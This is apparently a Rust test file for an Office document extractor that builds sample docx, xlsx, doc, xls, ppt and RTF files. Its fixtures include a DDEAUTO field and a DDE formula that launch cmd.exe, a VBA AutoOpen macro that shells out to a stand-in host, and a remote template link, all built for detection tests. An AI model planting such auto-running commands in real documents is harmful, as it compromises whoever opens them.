//! Office documents of all generations.

#![allow(clippy::unwrap_used, reason = "a panic here is a failed test")]

mod read;

use std::io::{Cursor, Write as _};

use content::{Encryption, File, Source};
use proptest::prelude::*;
use read::{extract, hidden, missing, targets, visible};
use zip::ZipWriter;
use zip::write::SimpleFileOptions;

fn package(parts: &[(&str, &[u8])]) -> Vec<u8> {
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, data) in parts {
        writer
            .start_file(*name, SimpleFileOptions::default())
            .unwrap();
        writer.write_all(data).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

fn compound(streams: &[(&str, &[u8])]) -> Vec<u8> {
    let mut file = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
    for (path, data) in streams {
        if let Some((folder, _)) = path.rsplit_once('/').filter(|it| !it.0.is_empty()) {
            file.create_storage_all(folder).unwrap();
        }
        file.create_stream(path).unwrap().write_all(data).unwrap();
    }
    file.flush().unwrap();
    file.into_inner().into_inner()
}

fn relation(id: &str, kind: &str, target: &str) -> String {
    let base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    format!(
        "<Relationship Id='{id}' Type='{base}/{kind}' Target='{target}' TargetMode='External'/>"
    )
}

fn docx() -> Vec<u8> {
    let document = br#"<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="w" xmlns:r="r"><w:body>
        <w:p><w:r><w:t xml:space="preserve">Charged &amp; billed: </w:t></w:r><w:r><w:t>499 USD</w:t></w:r></w:p>
        <w:p><w:hyperlink r:id="rId7"><w:r><w:t>Cancel here</w:t></w:r></w:hyperlink></w:p>
        <w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>quiet words</w:t></w:r></w:p>
        <w:p><w:r><mc:AlternateContent><w:txbxContent><w:p><w:r><w:t>+1 800 555 0100</w:t></w:r></w:p></w:txbxContent></mc:AlternateContent></w:r></w:p>
        <w:p><w:r><w:instrText>HYPERLINK "https://field</w:instrText></w:r><w:r><w:instrText>.example/a"</w:instrText></w:r></w:p>
        <w:p><w:r><w:instrText>DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r></w:p>
        <w:tbl><w:tr><w:tc><w:p><w:r><w:t>Item</w:t></w:r></w:p></w:tc><w:tc><w:p><w:r><w:t>Price</w:t></w:r></w:p></w:tc></w:tr></w:tbl>
        </w:body></w:document>"#;
    let relations = [
        relation("rId7", "hyperlink", "https://cancel.example/x"),
        relation(
            "rId8",
            "attachedTemplate",
            "https://template.example/t.dotm",
        ),
        "<Relationship Id='rId1' Type='x/styles' Target='styles.xml'/>".to_owned(),
    ];
    let relations = format!("<Relationships>{}</Relationships>", relations.concat());
    package(&[
        ("[Content_Types].xml", b"<Types/>"),
        ("word/document.xml", document),
        ("word/_rels/document.xml.rels", relations.as_bytes()),
        (
            "word/header1.xml",
            b"<w:hdr><w:p><w:r><w:t>Head</w:t></w:r></w:p></w:hdr>",
        ),
        (
            "word/comments.xml",
            b"<w:comments><w:p><w:r><w:t>A comment</w:t></w:r></w:p></w:comments>",
        ),
        ("word/media/image1.png", b"\x89PNG\r\n\x1a\nxx"),
        (
            "docProps/core.xml",
            b"<cp:x><dc:creator>Ann Author</dc:creator><dc:title>Invoice</dc:title></cp:x>",
        ),
        (
            "docProps/app.xml",
            b"<Properties><Pages>2</Pages><Words>17</Words></Properties>",
        ),
    ])
}

fn property<'f>(file: &'f File, name: &str) -> Option<&'f str> {
    let found = file.properties.iter().find(|it| it.0 == name);
    found.map(|it| &*it.1)
}

#[test]
fn a_docx() {
    let extraction = extract(&docx());
    let file = &extraction.files[0];
    assert_eq!(file.error, None);
    assert_eq!(extraction.unread, []);
    let text = visible(file);
    for expected in [
        "Charged & billed: 499 USD",
        "+1 800 555 0100",
        "Item\tPrice",
        "Head",
        "A comment",
    ] {
        assert!(text.contains(expected), "{expected} in {text}");
    }
    assert_eq!(hidden(file), "quiet words");
    assert!(file.texts.iter().all(|it| it.source == Source::Office));
    let cancel = file
        .links
        .iter()
        .find(|it| it.target == "https://cancel.example/x")
        .unwrap();
    assert_eq!(cancel.text.as_deref(), Some("Cancel here"));
    assert!(targets(file).contains(&"https://field.example/a"));
    let office = file.office.as_ref().unwrap();
    assert_eq!(office.format, "ooxml");
    let has = |kind: &str| {
        office
            .external
            .iter()
            .find(|it| it.0 == kind)
            .map(|it| &*it.1)
    };
    assert_eq!(
        has("attachedTemplate"),
        Some("https://template.example/t.dotm")
    );
    assert!(has("dde").unwrap().contains("cmd.exe"));
    assert!(!office.macros);
    assert_eq!(property(file, "creator"), Some("Ann Author"));
    assert_eq!(file.page_count, Some(2));
    assert_eq!(extraction.files[1].path, "2/image1.png");
    assert_eq!(extraction.files[1].kind, "png");
}

#[test]
fn entities_are_refused() {
    let bomb = b"<!DOCTYPE x [<!ENTITY a 'ha'>]><w:p><w:t>&a;</w:t></w:p>";
    let extraction = extract(&package(&[("word/document.xml", bomb)]));
    assert_eq!(missing(&extraction), ["office"]);
    assert!(
        extraction.files[0]
            .error
            .as_ref()
            .unwrap()
            .contains("entities")
    );
}

#[test]
fn an_xlsx_in_the_order_of_its_cells() {
    let workbook =
        b"<workbook xmlns:r='r'><sheets><sheet name='Bill' r:id='rId1'/><sheet name='Secret' \
        state='veryHidden' r:id='rId2'/></sheets></workbook>";
    let relations = b"<Relationships><Relationship Id='rId1' Target='worksheets/sheet2.xml'/>\
        <Relationship Id='rId2' Target='/xl/worksheets/sheet1.xml'/></Relationships>";
    let strings = b"<sst><si><t>hidden one</t></si><si><r><t>Call </t></r><r><t>us</t></r><rPh><t>kana</t></rPh></si></sst>";
    let shown = b"<worksheet><sheetData><row><c t='s'><v>1</v></c><c><v>18005550100</v></c></row><row>\
        <c t='inlineStr'><is><t>inline</t></is></c><c t='str'><f>HYPERLINK(\"https://f.example/1\",\"x\")</f><v>x</v></c>\
        <c><f>cmd|'/c calc'!A0</f><v>0</v></c></row></sheetData></worksheet>";
    let secret = b"<worksheet><sheetData><row><c t='s'><v>0</v></c></row></sheetData></worksheet>";
    let extraction = extract(&package(&[
        ("xl/workbook.xml", workbook),
        ("xl/_rels/workbook.xml.rels", relations),
        ("xl/sharedStrings.xml", strings),
        ("xl/worksheets/sheet1.xml", secret),
        ("xl/worksheets/sheet2.xml", shown),
        ("xl/macrosheets/sheet1.xml", b"<x/>"),
    ]));
    let file = &extraction.files[0];
    assert_eq!(visible(file), "Call us\t18005550100\ninline\tx\t0");
    assert_eq!(hidden(file), "hidden one");
    assert_eq!(targets(file), ["https://f.example/1"]);
    let office = file.office.as_ref().unwrap();
    assert_eq!(office.hidden_sheets, ["Secret"]);
    assert!(office.macros, "XLM");
    assert!(office.external.iter().any(|it| it.0 == "dde"));
}

#[test]
fn a_pptx_in_the_order_of_its_slides() {
    let slide = |text: &str| {
        format!(
            "<p:sld xmlns:r='r'><a:p><a:r><a:rPr><a:hlinkClick r:id='rId2'/></a:rPr><a:t>{text}</a:t></a:r></a:p></p:sld>"
        )
    };
    let relations = format!(
        "<Relationships>{}</Relationships>",
        relation("rId2", "hyperlink", "tel:+18005550100")
    );
    let extraction = extract(&package(&[
        ("ppt/slides/slide10.xml", slide("last").as_bytes()),
        ("ppt/slides/slide2.xml", slide("first").as_bytes()),
        ("ppt/slides/_rels/slide2.xml.rels", relations.as_bytes()),
        ("ppt/notesSlides/notesSlide1.xml", slide("notes").as_bytes()),
    ]));
    let file = &extraction.files[0];
    assert_eq!(visible(file), "first\nlast\nnotes");
    assert_eq!(file.texts[0].page, Some(2));
    assert_eq!(file.links[0].target, "tel:+18005550100");
    assert_eq!(file.links[0].page, Some(2));
}

#[test]
fn an_opendocument_text() {
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    let stored = SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
    writer.start_file("mimetype", stored).unwrap();
    writer
        .write_all(b"application/vnd.oasis.opendocument.text")
        .unwrap();
    writer
        .start_file("content.xml", SimpleFileOptions::default())
        .unwrap();
    writer
        .write_all(b"<office:body><text:p>Call<text:s/><text:a xlink:href='https://a.example'>us</text:a></text:p></office:body>")
        .unwrap();
    let extraction = extract(&writer.finish().unwrap().into_inner());
    let file = &extraction.files[0];
    assert_eq!((&*file.kind, &*visible(file)), ("odf", "Call us"));
    assert_eq!(file.links[0].text.as_deref(), Some("us"));
}

/// Data in chunks that are not compressed ([MS-OVBA] section 2.4.1): what every reader takes.
fn stored_container(data: &[u8]) -> Vec<u8> {
    let mut container = vec![1];
    for chunk in data.chunks(8) {
        // One flag byte of zero: eight literal bytes follow.
        let header = u16::try_from(chunk.len()).unwrap() | 0xB000;
        container.extend(header.to_le_bytes());
        container.push(0);
        container.extend(chunk);
    }
    container
}

fn vba_streams() -> Vec<(String, Vec<u8>)> {
    let record = |kind: u16, data: &[u8]| {
        let size = u32::try_from(data.len()).unwrap();
        [&kind.to_le_bytes()[..], &size.to_le_bytes(), data].concat()
    };
    let directory = [
        record(0x03, &1252_u16.to_le_bytes()),
        record(0x19, b"ThisDocument"),
        record(0x1A, b"ThisDocument"),
        record(0x31, &3_u32.to_le_bytes()),
        record(0x2B, &[]),
    ];
    let source =
        b"Sub AutoOpen()\r\nShell \"cmd.exe /c start https://load.example/a\"\r\nEnd Sub\r\n";
    let module = [b"xyz".to_vec(), stored_container(source)].concat();
    vec![
        ("/VBA/dir".to_owned(), stored_container(&directory.concat())),
        ("/VBA/ThisDocument".to_owned(), module),
    ]
}

#[track_caller]
fn check_macros(file: &File) {
    let office = file.office.as_ref().unwrap();
    assert!(office.macros);
    let has = |kind: &str, word: &str| {
        office
            .macro_keywords
            .contains(&(kind.to_owned(), word.to_owned()))
    };
    assert!(has("autoexec", "AutoOpen"), "{:?}", office.macro_keywords);
    assert!(has("suspicious", "Shell") && has("ioc", "https://load.example/a"));
}

#[test]
fn macros_in_both_generations() {
    let streams = vba_streams();
    let project: Vec<_> = streams.iter().map(|it| (&*it.0, &*it.1)).collect();
    let project = compound(&project);
    let extraction = extract(&package(&[
        ("word/document.xml", b"<x/>"),
        ("word/vbaProject.bin", &project),
    ]));
    check_macros(&extraction.files[0]);

    let mut all = vec![("/WordDocument".to_owned(), vec![0; 600])];
    all.extend(
        streams
            .into_iter()
            .map(|(path, data)| (format!("/Macros{path}"), data)),
    );
    let all: Vec<_> = all.iter().map(|it| (&*it.0, &*it.1)).collect();
    check_macros(&extract(&compound(&all)).files[0]);
}

/// A Word document with one piece of bytes and one of UTF-16.
fn doc(flags: u16) -> Vec<u8> {
    let first = b"Bill\rCall \x13HYPERLINK \"https://w.example/\"\x14here\x15 at ";
    let second: Vec<u8> = "+1 800 555 0100 – now"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    let mut document = vec![0; 0x400];
    document[..2].copy_from_slice(&0xA5EC_u16.to_le_bytes());
    document[0x0A..0x0C].copy_from_slice(&(flags | 0x0200).to_le_bytes());
    document.extend(first);
    let second_at = u32::try_from(document.len()).unwrap();
    document.extend(&second);
    let (a, b) = (
        u32::try_from(first.len()).unwrap(),
        u32::try_from(second.len() / 2).unwrap(),
    );
    let mut pieces = Vec::new();
    for position in [0, a, a + b] {
        pieces.extend(position.to_le_bytes());
    }
    for place in [0x4000_0000 | (0x400 * 2), second_at] {
        pieces.extend([0, 0]);
        pieces.extend(place.to_le_bytes());
        pieces.extend([0, 0]);
    }
    let mut table = vec![1, 2, 0, 9, 9, 2];
    table.extend(u32::try_from(pieces.len()).unwrap().to_le_bytes());
    table.extend(pieces);
    document[0x01A6..0x01AA].copy_from_slice(&u32::try_from(table.len()).unwrap().to_le_bytes());
    compound(&[("/WordDocument", &document), ("/1Table", &table)])
}

#[test]
fn a_doc() {
    let extraction = extract(&doc(0));
    let file = &extraction.files[0];
    assert_eq!((&*file.kind, &file.error), ("doc", &None));
    assert_eq!(visible(file), "Bill\nCall here at +1 800 555 0100 – now");
    assert_eq!(targets(file), ["https://w.example/"]);
    let locked = extract(&doc(0x0100));
    assert_eq!(
        locked.files[0].encryption,
        Some(Encryption { password: None })
    );
    assert_eq!(missing(&locked), ["encrypted"]);
}

#[test]
fn an_xls_whose_strings_go_on_in_other_records() {
    let record = |kind: u16, data: &[u8]| {
        let size = u16::try_from(data.len()).unwrap();
        [&kind.to_le_bytes()[..], &size.to_le_bytes(), data].concat()
    };
    let mut link = vec![0; 20];
    link.extend(b"\xE0\xC9\xEA\x79\xF9\xBA\xCE\x11\x8C\x82\0\xAA\0\x4B\xA9\x0B");
    let address: Vec<u8> = "https://x.example/a\0"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    link.extend(u32::try_from(address.len()).unwrap().to_le_bytes());
    link.extend(address);
    let number = 18_005_550_100_f64.to_le_bytes();
    let stream = [
        record(0x85, b"\0\0\0\0\0\0\x04\0Bill"),
        record(0x85, b"\0\0\0\0\x02\x01\x05\0Macro"),
        // Two strings; the first is cut, and goes on as UTF-16.
        record(0xFC, b"\0\0\0\0\x02\0\0\0\x07\0\0Call"),
        record(0x3C, b"\x01 \0u\0s\0\x02\0\x08\x01\0hi\0\0\0\0"),
        record(0x203, &[&[0; 6][..], &number].concat()),
        record(
            0x27E,
            &[&[0; 6][..], &(499_u32 << 2 | 2).to_le_bytes()].concat(),
        ),
        record(0x1B8, &link),
    ];
    let extraction = extract(&compound(&[("/Workbook", &stream.concat())]));
    let file = &extraction.files[0];
    assert_eq!(visible(file), "Call us\nhi\n18005550100\n499");
    assert_eq!(targets(file), ["https://x.example/a"]);
    let office = file.office.as_ref().unwrap();
    assert_eq!(office.hidden_sheets, ["Macro"]);
    assert!(office.macros);
    let locked = extract(&compound(&[("/Workbook", &record(0x2F, &[0; 4]))]));
    assert_eq!(missing(&locked), ["encrypted"]);
}

#[test]
fn a_ppt() {
    let atom = |kind: u16, version: u16, data: &[u8]| {
        let size = u32::try_from(data.len()).unwrap();
        [
            &version.to_le_bytes()[..],
            &kind.to_le_bytes(),
            &size.to_le_bytes(),
            data,
        ]
        .concat()
    };
    let wide: Vec<u8> = "Call\rus"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    let target: Vec<u8> = "https://p.example"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    let inner = [
        atom(0x0FA0, 0, &wide),
        atom(0x0FA8, 0, b"+1 800 555 0100"),
        atom(0x0FBA, 0, &target),
    ];
    let stream = atom(0x03E8, 0x0F, &inner.concat());
    let extraction = extract(&compound(&[("/PowerPoint Document", &stream)]));
    let file = &extraction.files[0];
    assert_eq!(visible(file), "Call\nus\n+1 800 555 0100");
    assert_eq!(targets(file), ["https://p.example"]);
}

#[test]
fn an_encrypted_document_of_the_new_kind() {
    let extraction = extract(&compound(&[
        ("/EncryptedPackage", &[1; 64]),
        ("/EncryptionInfo", &[4; 64]),
    ]));
    assert_eq!(
        extraction.files[0].encryption,
        Some(Encryption { password: None })
    );
    assert_eq!(missing(&extraction), ["encrypted"]);
}

#[test]
fn an_rtf() {
    let extraction = extract(br#"{\rtf1\ansi Call {\field{\*\fldinst HYPERLINK "https://r.example"}{\fldrslt us}} at +1 800 555 0100}"#);
    let file = &extraction.files[0];
    assert_eq!(visible(file), "Call us at +1 800 555 0100");
    assert_eq!(targets(file), ["https://r.example"]);
    assert_eq!(file.office.as_ref().unwrap().format, "rtf");
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(128))]

    #[test]
    fn damaged_documents_end(
        which in 0..4_usize,
        at in 0..20_000_usize,
        with in proptest::collection::vec(any::<u8>(), 0..12),
        length in 0..20_000_usize,
    ) {
        let streams = vba_streams();
        let project: Vec<_> = streams.iter().map(|it| (&*it.0, &*it.1)).collect();
        let seeds = [
            docx(),
            doc(0),
            package(&[("word/document.xml", b"<x/>"), ("word/vbaProject.bin", &compound(&project))]),
            compound(&[("/Workbook", b"\xFC\0\x0A\0\0\0\0\0\x02\0\0\0\x07\0\0Call")]),
        ];
        let mut bytes = seeds[which].clone();
        for (offset, byte) in with.iter().enumerate() {
            let place = (at + offset) % bytes.len();
            bytes[place] = *byte;
        }
        bytes.truncate(length.max(10));
        let extraction = extract(&bytes);
        prop_assert!(extraction.files.len() < 10);
    }
}
